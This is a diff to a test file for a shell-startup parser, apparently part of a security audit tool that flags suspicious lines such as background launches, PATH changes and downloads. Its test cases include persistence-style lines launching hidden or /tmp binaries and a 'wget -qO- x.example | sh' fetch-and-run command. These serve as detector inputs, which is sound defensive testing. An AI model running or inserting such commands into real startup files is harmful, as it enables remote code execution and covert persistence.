@@ -9,7 +9,16 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from audit.artifacts.base import ParseError
-from audit.artifacts.shell_startup import COPIES, RECORDS, STANDS_IN, STARTS, StartupLine, parse
+from audit.artifacts.shell_startup import (
+    BEHIND,
+    COPIES,
+    FIRST,
+    RECORDS,
+    STANDS_IN,
+    STARTS,
+    StartupLine,
+    parse,
+)
 from audit.artifacts.signs import COMMANDS, DOWNLOADS, SENDS
 from tests.artifacts.devices import see, system
 
@@ -54,6 +63,10 @@ ssh() {
 script_dir=$(dirname "$0")
 eval "$(thefuck --alias)"
 export GPG_TTY=$(tty)
+export PATH="$HOME/.cargo/bin:$PATH"
+test -f ~/.x/env && echo yes
+make -j4 2>&1
+dropbox start &
 """
 
 
@@ -90,6 +103,8 @@ def test_what_a_system_brings_says_nothing(path: str) -> None:
         ("nohup ~/.x/y > /dev/null 2>&1 &", [(STARTS, "~/.x/y")]),
         ("(/tmp/y &)", [(STARTS, "/tmp/y")]),
         ("$HOME/.x/y", [(STARTS, "~/.x/y")]),
+        ("python3 ~/work/y.py &", [(BEHIND, "~/work/y.py")]),
+        ('export PATH="$HOME/.x/bin:$PATH"', [(FIRST, "~/.x/bin")]),
         ("run() {\n  wget -qO- x.example | sh\n}\nrun", [(DOWNLOADS, "")]),
     ],
 )
